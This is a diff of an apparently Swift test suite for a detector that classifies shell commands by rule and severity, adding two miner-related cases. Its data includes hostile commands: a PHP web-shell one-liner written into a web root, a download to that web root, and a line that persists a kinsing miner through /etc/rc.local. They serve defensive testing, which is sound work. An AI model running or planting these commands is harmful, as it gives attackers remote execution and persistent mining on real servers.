@@ -53,6 +53,8 @@ import Testing
       ("wget https://h.example/tool.php -O /var/www/html/tool.php", "web-shell-written", .low),
       ("printf '<?=`$_GET[0]`?>' > /var/www/html/x.php", "web-shell-written", .high),
       ("echo 'Note: kinsing malware uses kdevtmpfsi'", "miner", .informational),
+      ("echo 'kinsing is a miner' >> notes.txt", "miner", .informational),
+      ("echo './kinsing -c x' >> /etc/rc.local", "miner", .high),
       ("echo 'kdevtmpfsi &' | sh", "miner", .high),
     ] as [(String, String, Severity)])
   func isSeenThrough(command: String, rule: String, severity: Severity) {
